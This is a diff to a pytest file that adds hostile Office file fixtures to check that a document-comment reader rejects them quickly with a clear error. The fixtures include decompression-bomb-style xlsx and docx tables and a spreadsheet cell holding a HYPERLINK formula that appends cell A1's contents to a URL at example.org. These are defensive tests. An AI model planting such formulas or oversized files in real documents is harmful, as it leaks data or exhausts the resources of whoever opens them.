@@ -165,8 +165,75 @@ def test_a_hostile_file_is_refused_soon_with_one_sentence(tmp_path, name, write,
     assert "\n" not in str(refused.value)
 
 
+def wide_row(path):
+    """A million columns, in a file of a few kilobytes."""
+    cells = "<c><v>1</v></c>" * 1_000_000
+    make.workbook(path, f'<row r="1">{cells}</row>')
+
+
+def a_million_named(path):
+    make.workbook(path, f'<row r="1">{make.cell("BDWGN1", "x")}</row>')
+
+
+def formula(path):
+    head = "".join(
+        make.cell(f"{letter}1", heading)
+        for letter, heading in zip("ABCDEFGH", HEADER.strip().split(","), strict=True)
+    )
+    call = "HYPERLINK(&quot;http://example.org/?&quot;&amp;A1)"
+    cells = make.cell("A2", "NOR") + make.cell("C2", "1") + make.cell("E2", "te")
+    cells += f'<c r="F2" t="str"><f>{call}</f><v>click</v></c>'
+    make.workbook(path, f'<row r="1">{head}</row><row r="2">{cells}</row>')
+
+
+def table(rows):
+    return f"<w:tbl>{rows}</w:tbl>"
+
+
+def wide_table(path):
+    line = make.paragraph(make.run("x"))
+    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="999999"/></w:tcPr>{line}</w:tc>'
+    docx(path, table(f"<w:tr>{cell * 3}</w:tr>" * 800))
+
+
+def many_cells(path):
+    docx(path, table(f"<w:tr>{'<w:tc><w:p/></w:tc>' * 1_500}</w:tr>"))
+
+
+TABLES = [
+    ("million.xlsx", wide_row, "unpacks to more than such a file needs"),
+    ("named.xlsx", a_million_named, "from A1 to BDWGN1 is more than 2,000,000 cells"),
+    ("formula.xlsx", formula, "row 2, column F: the cell holds a formula"),
+    ("spans.docx", wide_table, "no row holds the names of the columns"),
+    ("cells.docx", many_cells, "is damaged"),
+    ("macro.docm", docx, "contains macros. Save it as .docx"),
+    ("old.doc", text(OLE), "Office 97 to 2003: save it as .docx"),
+    ("none.docx", docx, "no row holds the names of the columns"),
+    ("blank.docx", lambda p: docx(p, table("<w:tr/>")), "blank.docx is empty"),
+    ("words.docx", lambda p: docx(p, table(
+        f"<w:tr><w:tc>{make.paragraph(make.run('x'))}</w:tc></w:tr>")),
+     "no row holds the names of the columns"),
+    *((name, write, words) for name, write, words in HOSTILE if name.endswith(".docx")),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("name", "write", "words"), TABLES, ids=lambda v: str(v)[:12])
+def test_a_hostile_table_of_comments_is_refused_soon(tmp_path, name, write, words):
+    path = tmp_path / name
+    write(path)
+
+    start = time.perf_counter()
+    with pytest.raises(FormatError) as refused:
+        read_comments(path)
+
+    assert time.perf_counter() - start < SOON
+    assert words in str(refused.value)
+    assert name in str(refused.value)
+    assert "\n" not in str(refused.value)
+
+
 def test_the_corpus_of_hostile_files_is_not_cut_down():
-    assert len(HOSTILE) >= 40
+    assert len(HOSTILE) + len(TABLES) >= 60
 
 
 def test_a_file_that_is_not_there_is_said_to_be_so(tmp_path):
